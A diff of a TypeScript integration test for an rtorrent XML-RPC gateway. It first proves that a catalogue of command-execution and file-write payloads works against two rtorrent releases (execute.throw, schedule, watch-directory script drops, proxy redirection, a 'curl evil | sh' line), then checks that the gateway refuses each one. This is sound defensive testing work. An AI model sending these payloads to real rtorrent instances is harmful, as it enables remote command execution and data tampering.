@@ -1,35 +1,41 @@
 /**
- * The bypass catalogue of the rtorrent RPC reference (shared/docs/rtorrent-rpc.md §6), against a real
- * rtorrent 0.9.8. Every attack is first shown to work: sent straight to one rtorrent over SCGI, it
- * leaves its mark on disk (a file touched by `execute.throw=touch,…`, a log file, a deleted file, a new
- * working directory...). The same request is then sent through the gateway, to a second rtorrent, as
- * the `standard` and the `readonly` user: each must get a policy fault (HTTP 200) naming the refused
+ * The bypass catalogue of the rtorrent RPC reference (shared/docs/rtorrent-rpc.md §6), against every
+ * rtorrent release in rtorrentBuilds(): Debian's 0.9.8 and the current 0.16.20. Every attack is first
+ * shown to work: sent straight to one rtorrent of that release over SCGI, it leaves its mark on disk
+ * (a file touched by `execute.throw=touch,…`, a log file, a deleted file, a new working directory...).
+ * The same request is then sent through the gateway, to a second rtorrent of the same release, as the
+ * `standard` and the `readonly` user: each must get a policy fault (HTTP 200) naming the refused
  * method, the user and the policy, leave a warn line in the log, and leave no mark.
  * test/unit/policy-bypass.test.ts checks the same catalogue against the policy engine alone; this file
  * shows that the payloads are real and that the gateway stops them end to end.
  *
- * An attack that cannot be shown on 0.9.8 (master-only commands, JSON-RPC, routes that need a peer)
- * is kept as a blocked-only case and says why in its name.
+ * The releases do not take the same payloads. Where a spelling exists on one release only (execute2
+ * and schedule2 are 0.9.8 names that 0.16.20 keeps only under -D; log.print, log.open_file.flush,
+ * directory.watch.ready and network.proxy.* are 0.16 commands), the attack is real there and
+ * blocked-only on the other, and says why in its name. An attack that cannot be shown on a release
+ * at all (commands newer than 0.16.20, routes that need a peer) is blocked-only there.
  */
 import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
 import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, readlinkSync, renameSync, statSync, writeFileSync } from 'node:fs';
-import { createServer, type Server } from 'node:http';
+import { createServer, type Server, type ServerResponse } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { after, before, describe, it } from 'node:test';
 import { basicAuth, post, startGateway, type GatewayTestInstance } from '../helpers/gateway.js';
-import { requireBinary } from '../helpers/processes.js';
-import { startRtorrent, type RtorrentInstance } from '../helpers/rtorrent.js';
-import { decodeXmlRpcResponse, xmlCall, XmlRpcFault, type XmlParam } from '../helpers/scgi-direct.js';
+import { rtorrentBuilds, startRtorrent, type RtorrentBuild, type RtorrentInstance } from '../helpers/rtorrent.js';
+import { decodeXmlRpcResponse, xmlCall, XmlRpcFault, type XmlParam, type XmlRpcDecoded } from '../helpers/scgi-direct.js';
 import { infoHashOf, makeTorrentBytes } from '../helpers/torrents.js';
 
-// Throws in CI when rtorrent is missing, so the file fails there instead of skipping.
-const haveRtorrent = requireBinary('rtorrent') !== undefined;
+// Throws in CI when either release is missing, so the file fails there instead of skipping.
+const BUILDS = rtorrentBuilds();
 
 /** What one attack gets to aim at: a fresh directory on the rtorrent host, and that rtorrent. */
 interface Target {
   readonly rt: RtorrentInstance;
+  /** the release of `rt`: "0.9.8", "0.16.20" */
+  readonly version: string;
   /** a fresh, empty directory for this attack on this rtorrent */
   readonly dir: string;
   /** the file the attack tries to create */
@@ -48,12 +54,28 @@ interface Target {
   loadTorrent(): Promise<string>;
   /** hashes that loadTorrent() loaded for this target, in order */
   readonly loaded: string[];
+  /** what arrange() read from rtorrent for cleanup() to put back */
+  readonly saved: Map<string, XmlRpcDecoded>;
+  /** loads a fresh torrent by http:// URL, as the administrator would, once it is listed */
+  loadTorrentUrl(): Promise<string>;
+  /**
+   * Opens an HTTP proxy of the attacker's own for this target, which records every request and
+   * serves the torrents as the torrent server does.
+   */
+  openProxy(): Promise<void>;
+  /** http://127.0.0.1:port of the proxy, once openProxy() has resolved */
+  readonly proxyUrl: string;
+  /** the URLs the proxy was asked for */
+  readonly proxied: string[];
 }
+
+/** Why an attack cannot be shown: one reason for every release, or one per release that lacks it. */
+type Why = string | Readonly<Record<string, string>>;
 
 interface Attack {
   readonly name: string;
-  /** why the effect cannot be shown on this rtorrent; the attack is then checked for refusal only */
-  readonly blockedOnly?: string;
+  /** why the effect cannot be shown on a release; the attack is then checked for refusal only there */
+  readonly blockedOnly?: Why;
   /** set up what the attack needs on the host (files to import, a watch directory...) */
   arrange?(t: Target): void | Promise<void>;
   /** the XML-RPC requests of the attack, in order; the gateway must refuse every one */
@@ -96,6 +118,25 @@ function handXml(methodName: string, params: string[]): string {
 }
 const str = (text: string): string => `<value><string>${text}</string></value>`;
 
+/**
+ * Drops an executable script into the target's watch directory. 0.16's libtorrent reports only names
+ * ending in .torrent (src/torrent/utils/directory_events.cc); execute.throw runs the file whatever
+ * its name.
+ */
+async function dropScript(t: Target): Promise<void> {
+  await sleep(50);
+  writeFileSync(join(t.dir, 'drop.torrent'), `#!/bin/sh\ntouch ${t.marker}\n`);
+  chmodSync(join(t.dir, 'drop.torrent'), 0o755);
+  // A rename is one inotify event with the whole file in place.
+  renameSync(join(t.dir, 'drop.torrent'), join(t.dir, 'watch', 'drop.torrent'));
+}
+
+/** Where 0.9.8's xmlrpc-c unwraps a nested array, the tinyxml2 reader of 0.16.20 passes it on whole. */
+const NESTED_ARRAY = 'not real on 0.16.20, which keeps the nested array whole: "Wrong object type: expected: string actual: list"';
+
+/** How 0.16.20 keeps the 0.9.8 names it renamed. */
+const DEPRECATED = 'only under -D (method.use_deprecated, src/main.cc), which a packaged rtorrent does not pass';
+
 const MAGNET = 'magnet:?xt=urn:btih:5a8062c076fa85e8056451c0d9aa04349ae27909&dn=payload&tr=http%3A%2F%2F127.0.0.1%3A9%2Fannounce';
 
 const ATTACKS: Attack[] = [
@@ -107,12 +148,20 @@ const ATTACKS: Attack[] = [
   },
   {
     name: 'execute2, the real execute command of 0.9.8',
+    blockedOnly: { '0.16.20': `not real on 0.16.20, which defines execute2 ${DEPRECATED}` },
     steps: (t) => [xmlCall('execute2', ['', 'touch', t.marker])],
     refused: 'execute2',
   },
   {
     name: 'execute without a target (a 0.9.8 no-target redirect: the first parameter is the program)',
+    blockedOnly: { '0.16.20': 'not real on 0.16.20, where execute takes a target like any command and "touch" is none ("invalid target")' },
     steps: (t) => [xmlCall('execute', ['touch', t.marker])],
+    refused: 'execute',
+  },
+  {
+    name: 'execute with a target, the 0.16 spelling (there the same command as execute.throw)',
+    blockedOnly: { '0.9.8': 'not real on 0.9.8, where execute takes no target and would run the program ""' },
+    steps: (t) => [xmlCall('execute', ['', 'touch', t.marker])],
     refused: 'execute',
   },
   {
@@ -178,11 +227,13 @@ const ATTACKS: Attack[] = [
   },
   {
     name: 'd.multicall2 rows wrapped in one array, which xmlrpc-c spreads into arguments',
+    blockedOnly: { '0.16.20': NESTED_ARRAY },
     steps: (t) => [xmlCall('d.multicall2', ['', ['main', t.exec]])],
     refused: 'execute.throw',
   },
   {
     name: 'a d.multicall2 row wrapped in a one-element array, which xmlrpc-c unwraps',
+    blockedOnly: { '0.16.20': NESTED_ARRAY },
     steps: (t) => [xmlCall('d.multicall2', ['', 'main', [t.exec]])],
     refused: 'execute.throw',
   },
@@ -193,7 +244,7 @@ const ATTACKS: Attack[] = [
   },
   {
     name: 'a second command after ";" in a d.multicall2 row',
-    blockedOnly: 'not real on 0.9.8: multicall rows run in single-command mode, so only d.name runs',
+    blockedOnly: 'not real on either release: multicall rows run in single-command mode, so only d.name runs',
     steps: (t) => [xmlCall('d.multicall2', ['', 'main', `d.name=;${t.exec}`])],
     refused: 'execute.throw',
   },
@@ -279,6 +330,7 @@ const ATTACKS: Attack[] = [
   },
   {
     name: 'an autobrr-style load.raw_start("", [torrent, command]) that xmlrpc-c flattens',
+    blockedOnly: { '0.16.20': NESTED_ARRAY },
     steps: (t) => [xmlCall('load.raw_start', ['', [t.freshTorrent(), t.exec]])],
     settleMs: 200,
     refused: { standard: 'execute.throw', readonly: 'load.raw_start' },
@@ -298,10 +350,13 @@ const ATTACKS: Attack[] = [
   {
     name: 'method.set replacing the body of group.seeding.ratio.command, then a call of it',
     steps: (t) => [xmlCall('method.set', ['', 'group.seeding.ratio.command', t.exec]), xmlCall('group.seeding.ratio.command', [t.hash])],
+    arrange: async (t) => {
+      t.saved.set('body', await t.rt.call('method.get', ['', 'group.seeding.ratio.command']));
+    },
     refused: 'method.set',
     cleanup: async (t) => {
-      // 0.9.8's own body (method.get), so that a later ratio check behaves as shipped.
-      await t.rt.call('method.set', ['', 'group.seeding.ratio.command', 'd.try_close= ;d.ignore_commands.set=1']).catch(() => undefined);
+      // The release's own body, so that a later ratio check behaves as shipped.
+      await t.rt.call('method.set', ['', 'group.seeding.ratio.command', t.saved.get('body') as XmlParam]).catch(() => undefined);
     },
   },
   {
@@ -329,13 +384,22 @@ const ATTACKS: Attack[] = [
   },
   {
     name: 'schedule2 of an execute.throw command one second later',
+    blockedOnly: { '0.16.20': `not real on 0.16.20, which defines schedule2 ${DEPRECATED}` },
     steps: (t) => [xmlCall('schedule2', ['', `evil_${t.tag}`, '1', '0', t.exec])],
     settleMs: 1600,
     refused: 'schedule2',
   },
   {
     name: 'schedule, the 0.9.8 no-target alias, one second later',
+    blockedOnly: { '0.16.20': 'not real on 0.16.20, where schedule takes a target and the schedule\'s name is none ("invalid target")' },
     steps: (t) => [xmlCall('schedule', [`evil_${t.tag}`, '1', '0', t.exec])],
+    settleMs: 1600,
+    refused: 'schedule',
+  },
+  {
+    name: 'schedule with a target, the 0.16 spelling, one second later',
+    blockedOnly: { '0.9.8': 'not real on 0.9.8, where schedule takes no target, so a fifth argument is one too many ("Wrong number of arguments")' },
+    steps: (t) => [xmlCall('schedule', ['', `evil_${t.tag}`, '1', '0', t.exec])],
     settleMs: 1600,
     refused: 'schedule',
   },
@@ -374,9 +438,11 @@ const ATTACKS: Attack[] = [
     steps: (t) => [xmlCall('directory.watch.added', ['', `${join(t.dir, 'watch')}/`, 'import'])],
     afterwards: async (t) => {
       await sleep(50);
-      writeFileSync(join(t.dir, 'drop.rc'), `${t.exec}\n`);
+      // 0.16's libtorrent passes on only names ending in .torrent (src/torrent/utils/directory_events.cc);
+      // import reads the file as an rc file whatever its name.
+      writeFileSync(join(t.dir, 'drop.torrent'), `${t.exec}\n`);
       // A rename is one inotify event with the whole file in place.
-      renameSync(join(t.dir, 'drop.rc'), join(t.dir, 'watch', 'drop.rc'));
+      renameSync(join(t.dir, 'drop.torrent'), join(t.dir, 'watch', 'drop.torrent'));
     },
     settleMs: 500,
     refused: 'directory.watch.added',
@@ -385,19 +451,56 @@ const ATTACKS: Attack[] = [
     name: 'directory.watch.added naming execute.throw, then a script dropped into the directory',
     arrange: (t) => mkdirSync(join(t.dir, 'watch')),
     steps: (t) => [xmlCall('directory.watch.added', ['', `${join(t.dir, 'watch')}/`, 'execute.throw'])],
-    afterwards: async (t) => {
-      await sleep(50);
-      writeFileSync(join(t.dir, 'drop.sh'), `#!/bin/sh\ntouch ${t.marker}\n`);
-      chmodSync(join(t.dir, 'drop.sh'), 0o755);
-      renameSync(join(t.dir, 'drop.sh'), join(t.dir, 'watch', 'drop.sh'));
-    },
+    afterwards: (t) => dropScript(t),
     settleMs: 500,
     refused: 'directory.watch.added',
+  },
+  {
+    name: 'directory.watch.ready naming execute.throw, then a script dropped into the directory',
+    blockedOnly: { '0.9.8': 'not in 0.9.8' },
+    arrange: (t) => mkdirSync(join(t.dir, 'watch')),
+    steps: (t) => [xmlCall('directory.watch.ready', ['', `${join(t.dir, 'watch')}/`, 'execute.throw'])],
+    afterwards: (t) => dropScript(t),
+    // It runs the command once the file has been left unchanged for 0.5 s (src/utils/watch_ready_queue.h).
+    settleMs: 1500,
+    refused: 'directory.watch.ready',
   },
   {
     name: 'log.open_file creating (or truncating) a file anywhere',
     steps: (t) => [xmlCall('log.open_file', ['', `log_${t.tag}`, t.marker])],
     refused: 'log.open_file',
+  },
+  {
+    name: 'log.open_file.flush creating (or truncating) a file anywhere',
+    blockedOnly: { '0.9.8': 'not in 0.9.8' },
+    steps: (t) => [xmlCall('log.open_file.flush', ['', `log_${t.tag}`, t.marker])],
+    refused: 'log.open_file.flush',
+  },
+  {
+    name: 'log.append_file creating (or appending to) a file anywhere',
+    blockedOnly: { '0.9.8': 'not in 0.9.8' },
+    steps: (t) => [xmlCall('log.append_file', ['', `log_${t.tag}`, t.marker])],
+    refused: 'log.append_file',
+  },
+  {
+    name: 'log.append_file.flush creating (or appending to) a file anywhere',
+    blockedOnly: { '0.9.8': 'not in 0.9.8' },
+    steps: (t) => [xmlCall('log.append_file.flush', ['', `log_${t.tag}`, t.marker])],
+    refused: 'log.append_file.flush',
+  },
+  {
+    name: 'log.print writing the attacker\'s text into the administrator\'s log file',
+    blockedOnly: { '0.9.8': 'not in 0.9.8' },
+    arrange: async (t) => {
+      // The administrator's own log of the info group, flushed line by line where the release can
+      // (0.9.8, which has no log.print, needs the log only for the refusal check).
+      const open = t.version === '0.9.8' ? 'log.open_file' : 'log.open_file.flush';
+      await t.rt.call(open, ['', `admin_${t.tag}`, join(t.dir, 'admin.log')]);
+      await t.rt.call('log.add_output', ['', 'info', `admin_${t.tag}`]);
+    },
+    steps: (t) => [xmlCall('log.print', ['', 'info', `forged by ${t.tag}`])],
+    effect: (t) => readFileSync(join(t.dir, 'admin.log'), 'utf8').includes(`forged by ${t.tag}`),
+    refused: 'log.print',
   },
   {
     name: 'log.execute appending every later execute to a file anywhere',
@@ -422,14 +525,18 @@ const ATTACKS: Attack[] = [
   },
   {
     name: 'file.append writing to a file anywhere',
+    blockedOnly: { '0.16.20': 'not in 0.16.20, which compiles its handler but registers no command for it (src/command_local.cc cmd_file_append)' },
     steps: (t) => [xmlCall('file.append', ['', t.marker, 'curl evil | sh'])],
     refused: 'file.append',
   },
   {
-    name: 'log.rpc writing request bodies to a file',
-    blockedOnly: 'not real on 0.9.8, which calls it log.xmlrpc',
+    name: 'log.rpc writing every later request body to a file anywhere',
+    blockedOnly: { '0.9.8': 'not in 0.9.8, which calls it log.xmlrpc' },
     steps: (t) => [xmlCall('log.rpc', ['', t.marker])],
     refused: 'log.rpc',
+    cleanup: async (t) => {
+      await t.rt.call('log.rpc', ['', '']).catch(() => undefined);
+    },
   },
 
   // --- data-only compromises (§6.13) ------------------------------------------------------------
@@ -493,9 +600,78 @@ const ATTACKS: Attack[] = [
   },
   {
     name: 'session.path.set moving where session files are written',
-    blockedOnly: 'not real on 0.9.8, which refuses to change the session directory while one is in use',
+    blockedOnly: {
+      '0.9.8': 'not real on 0.9.8, which refuses to change the session directory while one is in use',
+      '0.16.20': 'not real on 0.16.20, which refuses to change the session path after start-up',
+    },
     steps: (t) => [xmlCall('session.path.set', ['', t.dir])],
     refused: 'session.path.set',
+  },
+
+  // --- where rtorrent's own connections go, and where it listens ----------------------------------
+  // 0.16.20 cannot unset network.proxy.http (an empty URL is an "unsupported proxy scheme"), so the
+  // proxy setter that can be undone comes first and every proxy stays up, serving torrents, until
+  // the end: a later URL load on the rtorrent used for the proofs still works.
+  {
+    name: 'network.proxy.global.set sending rtorrent\'s connections, URL loads included, through the attacker\'s proxy',
+    blockedOnly: { '0.9.8': 'not in 0.9.8' },
+    arrange: (t) => t.openProxy(),
+    steps: (t) => [xmlCall('network.proxy.global.set', ['', t.proxyUrl])],
+    afterwards: async (t) => {
+      await t.loadTorrentUrl();
+    },
+    effect: (t) => t.proxied.length > 0,
+    refused: 'network.proxy.global.set',
+    cleanup: async (t) => {
+      await t.rt.call('network.proxy.global.set', ['', '']);
+    },
+  },
+  {
+    name: 'network.proxy.http.set sending rtorrent\'s URL loads and announces through the attacker\'s proxy',
+    blockedOnly: { '0.9.8': 'not in 0.9.8' },
+    arrange: (t) => t.openProxy(),
+    steps: (t) => [xmlCall('network.proxy.http.set', ['', t.proxyUrl])],
+    afterwards: async (t) => {
+      await t.loadTorrentUrl();
+    },
+    effect: (t) => t.proxied.length > 0,
+    refused: 'network.proxy.http.set',
+  },
+  {
+    name: 'network.http.proxy_address.set (0.16: a name for network.proxy.http.set) sending URL loads through the attacker\'s proxy',
+    arrange: (t) => t.openProxy(),
+    steps: (t) => [xmlCall('network.http.proxy_address.set', ['', t.proxyUrl])],
+    afterwards: async (t) => {
+      await t.loadTorrentUrl();
+    },
+    effect: (t) => t.proxied.length > 0,
+    refused: 'network.http.proxy_address.set',
+    cleanup: async (t) => {
+      if (t.version === '0.9.8') await t.rt.call('network.http.proxy_address.set', ['', '']);
+    },
+  },
+  {
+    name: 'network.scgi.open_local in a command string, opening a second RPC socket without the gateway',
+    blockedOnly: 'not real while rtorrent already serves SCGI: a second socket is refused ("SCGI already enabled")',
+    steps: (t) => [xmlCall('d.multicall2', ['', 'main', `cat="$network.scgi.open_local=${join(t.dir, 'rpc.socket')}"`])],
+    effect: (t) => existsSync(join(t.dir, 'rpc.socket')),
+    refused: 'network.scgi.open_local',
+  },
+  {
+    name: 'magnet.path.set choosing where the next magnet\'s metadata is written',
+    blockedOnly: { '0.9.8': 'not in 0.9.8' },
+    arrange: (t) => mkdirSync(join(t.dir, 'meta')),
+    steps: (t) => [xmlCall('magnet.path.set', ['', join(t.dir, 'meta')])],
+    afterwards: async (t) => {
+      const hash = createHash('sha1').update(t.dir).digest('hex');
+      await t.rt.call('load.start', ['', `magnet:?xt=urn:btih:${hash}&dn=meta&tr=http%3A%2F%2F127.0.0.1%3A9%2Fannounce`]);
+    },
+    effect: (t) => readdirSync(join(t.dir, 'meta')).length > 0,
+    settleMs: 500,
+    refused: 'magnet.path.set',
+    cleanup: async (t) => {
+      await t.rt.call('magnet.path.set', ['', '']);
+    },
   },
 
   // --- evaluators at the top level (§6.7) --------------------------------------------------------
@@ -563,11 +739,13 @@ const ATTACKS: Attack[] = [
   },
   {
     name: 'an XML comment splitting the method name (exec<!-- -->ute.throw)',
+    blockedOnly: { '0.16.20': 'not real on 0.16.20, whose tinyxml2 reader takes the name up to the comment: method \'exec\' not defined' },
     steps: (t) => [handXml('exec<!-- x -->ute.throw', [str(''), str('touch'), str(t.marker)])],
     refused: 'execute.throw',
   },
   {
     name: 'an untyped <value> as a command string',
+    blockedOnly: { '0.16.20': 'not real on 0.16.20, which refuses an untyped <value> ("received unsupported value type")' },
     steps: (t) => [handXml('d.multicall2', [str(''), '<value>main</value>', `<value>${t.exec}</value>`])],
     refused: 'execute.throw',
   },
@@ -580,19 +758,22 @@ const ATTACKS: Attack[] = [
   // --- blocked-only: not in 0.9.8, or not provable without a connected peer ----------------------
   {
     name: 'lua.execute.str running os.execute',
-    blockedOnly: 'not real on 0.9.8: master only, and only when built with Lua',
+    blockedOnly: {
+      '0.9.8': 'not in 0.9.8',
+      '0.16.20': 'not real here: only a build with Lua defines it, and the 0.16.20 under test has none',
+    },
     steps: (t) => [xmlCall('lua.execute.str', ['', `os.execute("touch ${t.marker}")`])],
     refused: 'lua.execute.str',
   },
   {
     name: 'schedule.if_absent of an execute.throw command',
-    blockedOnly: 'not real on 0.9.8: master only',
+    blockedOnly: 'not in 0.9.8 nor in 0.16.20: newer than both',
     steps: (t) => [xmlCall('schedule.if_absent', ['', `evil_${t.tag}`, '0', '0', t.exec])],
     refused: 'schedule.if_absent',
   },
   {
     name: 'a private command at the top level (d.state.set)',
-    blockedOnly: 'not real on 0.9.8: only JSON-RPC before master 3ae91b65 and jesec\'s fork expose private commands at the top level',
+    blockedOnly: 'not real over XML-RPC: only JSON-RPC up to 0.16.20 (see below) and jesec\'s fork expose private commands at the top level',
     steps: (t) => [xmlCall('d.state.set', [t.hash, 0])],
     refused: 'd.state.set',
   },
@@ -635,35 +816,74 @@ function faultOf(body: Buffer): XmlRpcFault {
 /** Quiet time after a refused attack before looking for its mark: the refusal is synchronous, this is margin. */
 const QUIET_MS = 100;
 
-describe('attacks from the bypass catalogue: real against rtorrent 0.9.8, refused by the gateway', { skip: !haveRtorrent && 'rtorrent not installed' }, () => {
+/** Why `attack` cannot be shown on `version`, or undefined where it is real. */
+function blockedOn(attack: Attack, version: string): string | undefined {
+  const why = attack.blockedOnly;
+  return typeof why === 'string' ? why : why?.[version];
+}
+
+/** Torrent n for a path or an absolute URL ending in /<n>.torrent (what a proxy is asked for). */
+function serveTorrent(url: string, res: ServerResponse): void {
+  const n = Number(/\/(\d+)\.torrent$/.exec(url)?.[1] ?? -1);
+  if (n < 0) res.writeHead(404).end();
+  else res.writeHead(200, { 'content-type': 'application/x-bittorrent' }).end(makeTorrentBytes(n, { seed: 'attack' }));
+}
+
+async function listen(server: Server): Promise<number> {
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return (server.address() as AddressInfo).port;
+}
+
+/** Resolves once `hash` is in rtorrent's download list: load.* may return before it is. */
+async function listed(rt: RtorrentInstance, hash: string, ms: number): Promise<void> {
+  const deadline = Date.now() + ms;
+  for (;;) {
+    const list = await rt.call('download_list', ['']);
+    if (Array.isArray(list) && list.includes(hash)) return;
+    assert.ok(Date.now() < deadline, `torrent ${hash} never showed up`);
+    await sleep(10);
+  }
+}
+
+/**
+ * How long a URL load may take to show: 0.9.8 fetches at once, 0.16.20's libtorrent runs curl on
+ * whole-second timers (see fetchDeadlineMs in policy-clients.test.ts).
+ */
+const fetchDeadlineMs = (version: string): number => (version === '0.9.8' ? 5000 : 15_000);
+
+interface JsonAnswer {
+  readonly id?: number;
+  readonly result?: unknown;
+  readonly error?: { readonly code: number; readonly message: string };
+}
+
+if (BUILDS.length === 0) describe('attacks from the bypass catalogue', { skip: 'rtorrent not installed' }, () => undefined);
+for (const build of BUILDS) describe(`attacks from the bypass catalogue: real against rtorrent ${build.version}, refused by the gateway`, () => suite(build));
+
+function suite(build: RtorrentBuild): void {
   let direct: RtorrentInstance;
   let behind: RtorrentInstance;
   let gateway: GatewayTestInstance;
   let torrents: Server;
   let torrentPort = 0;
   let serial = 0;
+  /** the attacker's proxies (Target.openProxy), closed at the end */
+  const proxies: Server[] = [];
 
   before(async () => {
     [direct, behind] = await Promise.all([
-      startRtorrent({ torrents: 2, name: 'attack-direct' }),
-      startRtorrent({ torrents: 2, name: 'attack-behind' }),
+      startRtorrent({ build, torrents: 2, name: 'attack-direct' }),
+      startRtorrent({ build, torrents: 2, name: 'attack-behind' }),
     ]);
     gateway = await startGateway({ upstream: `unix:${behind.socketPath}` });
-    // Serves /<n>.torrent as torrent n, for the load.start-of-a-URL attack.
-    torrents = createServer((req, res) => {
-      const n = Number(/^\/(\d+)\.torrent$/.exec(req.url ?? '')?.[1] ?? -1);
-      if (n < 0) {
-        res.writeHead(404).end();
-        return;
-      }
-      res.writeHead(200, { 'content-type': 'application/x-bittorrent' }).end(makeTorrentBytes(n, { seed: 'attack' }));
-    });
-    await new Promise<void>((resolve) => torrents.listen(0, '127.0.0.1', resolve));
-    torrentPort = (torrents.address() as AddressInfo).port;
+    // Serves /<n>.torrent as torrent n, for the attacks that load by URL.
+    torrents = createServer((req, res) => serveTorrent(req.url ?? '', res));
+    torrentPort = await listen(torrents);
   });
 
   after(async () => {
     torrents?.close();
+    for (const proxy of proxies) proxy.close();
     await gateway?.close();
     await Promise.all([direct?.stop(), behind?.stop()]);
   });
@@ -673,8 +893,11 @@ describe('attacks from the bypass catalogue: real against rtorrent 0.9.8, refuse
     mkdirSync(dir);
     const marker = join(dir, 'marker');
     const loaded: string[] = [];
+    const proxied: string[] = [];
+    let proxyUrl: string | undefined;
     return {
       rt,
+      version: rt.version,
       dir,
       marker,
       hash: rt.infoHashes[0]!,
@@ -683,20 +906,34 @@ describe('attacks from the bypass catalogue: real against rtorrent 0.9.8, refuse
       freshTorrent: () => makeTorrentBytes(++serial, { seed: 'attack' }),
       freshTorrentUrl: () => `http://127.0.0.1:${torrentPort}/${++serial}.torrent`,
       loaded,
+      saved: new Map(),
+      proxied,
+      get proxyUrl(): string {
+        assert.ok(proxyUrl !== undefined, 'openProxy() comes first');
+        return proxyUrl;
+      },
+      async openProxy() {
+        const proxy = createServer((req, res) => {
+          proxied.push(req.url ?? '');
+          serveTorrent(req.url ?? '', res);
+        });
+        proxies.push(proxy);
+        proxyUrl = `http://127.0.0.1:${await listen(proxy)}`;
+      },
       async loadTorrent() {
         const bytes = makeTorrentBytes(++serial, { seed: 'attack' });
         const hash = infoHashOf(bytes);
         await rt.call('load.raw', ['', bytes]);
-        // load.* may return before the download is in the list (see loadTorrents in the harness).
-        for (let tries = 0; ; tries++) {
-          const listed = await rt.call('download_list', ['']);
-          if (Array.isArray(listed) && listed.includes(hash)) {
-            loaded.push(hash);
-            return hash;
-          }
-          assert.ok(tries < 200, `torrent ${hash} never showed up`);
-          await sleep(10);
-        }
+        await listed(rt, hash, 2000);
+        loaded.push(hash);
+        return hash;
+      },
+      async loadTorrentUrl() {
+        const n = ++serial;
+        const hash = infoHashOf(makeTorrentBytes(n, { seed: 'attack' }));
+        await rt.call('load.normal', ['', `http://127.0.0.1:${torrentPort}/${n}.torrent`]);
+        await listed(rt, hash, fetchDeadlineMs(rt.version));
+        return hash;
       },
     };
   }
@@ -713,11 +950,11 @@ describe('attacks from the bypass catalogue: real against rtorrent 0.9.8, refuse
     }
   }
 
-  async function deniedLine(from: number, user: string): Promise<Record<string, unknown>> {
+  async function deniedLine(gw: GatewayTestInstance, from: number, user: string): Promise<Record<string, unknown>> {
     // The line is written when the response has been sent, which can be just after the client has it.
     let line: Record<string, unknown> | undefined;
     await eventually(() => {
-      line = gateway.logs.slice(from).find((entry) => entry.msg === 'call denied' && entry.user === user);
+      line = gw.logs.slice(from).find((entry) => entry.msg === 'call denied' && entry.user === user);
       return line !== undefined;
     }, 1000);
     assert.ok(line, `a "call denied" log line for ${user}`);
@@ -725,19 +962,20 @@ describe('attacks from the bypass catalogue: real against rtorrent 0.9.8, refuse
   }
 
   ATTACKS.forEach((attack, index) => {
-    const title = attack.blockedOnly
-      ? `${attack.name} (blocked-only, ${attack.blockedOnly}): refused for standard and readonly`
-      : `${attack.name}: real against rtorrent, refused for standard and readonly`;
+    const why = blockedOn(attack, build.version);
+    const title = why
+      ? `${attack.name} (blocked-only, ${why}): refused for standard and readonly`
+      : `${attack.name}: real against rtorrent ${build.version}, refused for standard and readonly`;
 
     it(title, async () => {
-      if (attack.blockedOnly === undefined) {
+      if (why === undefined) {
         // rtorrent 0.9.8 sometimes aborts (SIGABRT) a moment after an earlier proof's clean-up
         // erased a torrent its handlers still referenced; that proof had already passed. This one
         // gets a fresh rtorrent rather than a dead socket. An attack that kills rtorrent during its
         // own proof still fails on the running() check below.
         if (!direct.running()) {
           await direct.stop();
-          direct = await startRtorrent({ torrents: 2, name: 'attack-direct' });
+          direct = await startRtorrent({ build, torrents: 2, name: 'attack-direct' });
         }
         const t = target(direct, `a${index}`);
         await attack.arrange?.(t);
@@ -766,7 +1004,7 @@ describe('attacks from the bypass catalogue: real against rtorrent 0.9.8, refuse
           const expected = step === 0 ? `${refused} is not allowed ${who}` : who;
           assert.ok(fault.faultString.includes(expected), `${policy} step ${step + 1}: "${fault.faultString}" should say "${expected}"`);
 
-          const line = await deniedLine(from, user);
+          const line = await deniedLine(gateway, from, user);
           assert.equal(line.level, 40);
           assert.equal(line.policy, policy);
           if (step === 0) assert.ok(String(line.denial).startsWith(`${refused}: `), `denial "${String(line.denial)}" names ${refused}`);
@@ -774,35 +1012,106 @@ describe('attacks from the bypass catalogue: real against rtorrent 0.9.8, refuse
         await attack.afterwards?.(t);
         targets.push(t);
       }
-      await sleep((attack.settleMs ?? 0) + QUIET_MS);
+      // Where the attack is real, its effect may come late (schedules, watch directories).
+      await sleep((why === undefined ? attack.settleMs ?? 0 : 0) + QUIET_MS);
       for (const t of targets) assert.equal(effectOf(attack, t), false, `no effect through the gateway (${t.tag})`);
     });
   });
 
-  // JSON-RPC reaches private commands at the top level on jesec's fork and on master before 3ae91b65
-  // (§1.2, §6.12). The gateway speaks XML-RPC only, so such a body never gets to a policy at all.
-  it('a JSON-RPC execute.throw (blocked-only, not real on 0.9.8, which speaks only XML-RPC): refused before any policy for standard and readonly', async () => {
-    const targets: Target[] = [];
-    for (const { user, password, policy } of USERS) {
-      const t = target(behind, `json-${policy}`);
-      const body = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'execute.throw', params: ['', 'touch', t.marker] });
-      const auth = { authorization: basicAuth(user, password) };
+  describe('JSON-RPC', () => {
+    // 0.16.20 reads a body as JSON-RPC when CONTENT_TYPE says application/json, and there reaches
+    // commands that XML-RPC keeps private (§1.2, §6.12; fixed upstream after 0.16.20). 0.9.8 speaks
+    // XML-RPC only.
+    const speaksJson = build.version !== '0.9.8';
+    let jsonGateway: GatewayTestInstance;
 
-      const asJson = await post(gateway.url(), body, { ...auth, 'content-type': 'application/json' });
-      assert.equal(asJson.status, 415, `${policy}: application/json is not a body type the gateway reads`);
+    before(async () => {
+      if (speaksJson) jsonGateway = await startGateway({ upstream: `unix:${behind.socketPath}`, upstreamToml: 'jsonrpc = true\ntimeout = "10s"' });
+    });
+    after(async () => {
+      await jsonGateway?.close();
+    });
 
-      // Labelled as XML it is not XML-RPC: a parse fault, never relayed.
-      const from = gateway.logs.length;
-      const asXml = await post(gateway.url(), body, auth);
-      assert.equal(asXml.status, 200);
-      assert.equal(asXml.headers.get('x-gateway-error'), 'GW_XMLRPC_INVALID');
-      faultOf(asXml.body);
-      await eventually(() => gateway.logs.slice(from).some((entry) => entry.user === user && entry.level === 40), 1000);
-      const line = gateway.logs.slice(from).find((entry) => entry.user === user && entry.level === 40);
-      assert.equal(line?.outcome, 'invalid');
-      targets.push(t);
+    const json = (method: string, params: XmlParam[]): string => JSON.stringify({ jsonrpc: '2.0', id: 1, method, params });
+
+    async function sendJsonDirect(rt: RtorrentInstance, body: string): Promise<JsonAnswer> {
+      const response = await rt.raw(body, { contentType: 'application/json' });
